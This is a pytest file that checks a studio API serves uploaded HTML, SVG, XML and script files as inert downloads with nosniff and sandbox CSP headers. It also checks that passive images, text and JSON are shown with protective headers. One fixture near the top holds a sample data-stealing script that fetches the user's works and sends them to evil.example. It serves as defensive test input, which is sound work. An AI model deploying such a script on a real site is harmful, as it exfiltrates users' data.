"""What the studio sends to browsers: user files can't run as its pages."""

import io

import pytest
from fastapi.testclient import TestClient

from muselab.api.app import create_app
from muselab.library.media import CONTENT_HEADERS

STEALER = b"""<!doctype html><script>
fetch('/v1/works').then(r => r.json()).then(d => fetch('https://evil.example/?' + JSON.stringify(d)));
</script>"""


@pytest.fixture
def client(sqlite_studio):
    with TestClient(create_app(sqlite_studio, start_workers=False)) as c:
        yield c


def _upload(client, name: str, data: bytes, media_type: str) -> dict:
    r = client.post("/v1/works", files={"file": (name, io.BytesIO(data), media_type)})
    assert r.status_code == 201, r.text
    return r.json()


def _png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buf, format="PNG")
    return buf.getvalue()


# ---- user files -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name,media_type", [
    ("page.html", "text/html"), ("page.html", "text/html; charset=utf-8"), ("logo.svg", "image/svg+xml"),
    ("page.xhtml", "application/xhtml+xml"), ("feed.xml", "text/xml"), ("app.js", "text/javascript"),
    ("odd.bin", "Text/HTML"), ("unknown", "not a media type"),
])
def test_uploaded_pages_and_scripts_are_downloads_never_pages_of_the_studio(client, name, media_type):
    work = _upload(client, name, STEALER, media_type)
    for url in (f"/v1/works/{work['id']}/content", f"/v1/works/{work['id']}/content?download=false"):
        r = client.get(url)
        assert r.status_code == 200 and r.content == STEALER, "the bytes are kept and given back as they are"
        assert r.headers["content-disposition"].startswith("attachment"), r.headers
        assert r.headers["content-type"] == "application/octet-stream", "no type a browser would run"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in r.headers["content-security-policy"]
        assert "default-src 'none'" in r.headers["content-security-policy"]


def test_passive_files_show_inline_with_the_same_protective_headers(client):
    png = _upload(client, "a.png", _png(), "image/png")
    r = client.get(f"/v1/works/{png['id']}/content")
    assert r.headers["content-type"] == "image/png" and r.headers["content-disposition"].startswith("inline")
    for header, value in CONTENT_HEADERS.items():
        assert r.headers[header] == value
    thumb = client.get(f"/v1/works/{png['id']}/thumbnail")
    assert thumb.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in thumb.headers["content-security-policy"]
    text = _upload(client, "a.txt", "秋风".encode(), "text/plain")
    r = client.get(f"/v1/works/{text['id']}/content")
    assert r.headers["content-type"] == "text/plain; charset=utf-8", "never left to charset sniffing"
    assert r.headers["content-disposition"].startswith("inline")
    assert client.get(f"/v1/works/{text['id']}/content?download=true").headers["content-disposition"].startswith(
        "attachment")
    data = _upload(client, "d.json", b'{"a": 1}', "application/json")
    r = client.get(f"/v1/works/{data['id']}/content")
    assert r.headers["content-type"] == "application/json" and r.headers["content-disposition"].startswith(
        "attachment"), "a passive type that isn't shown inline keeps its type, as a download"
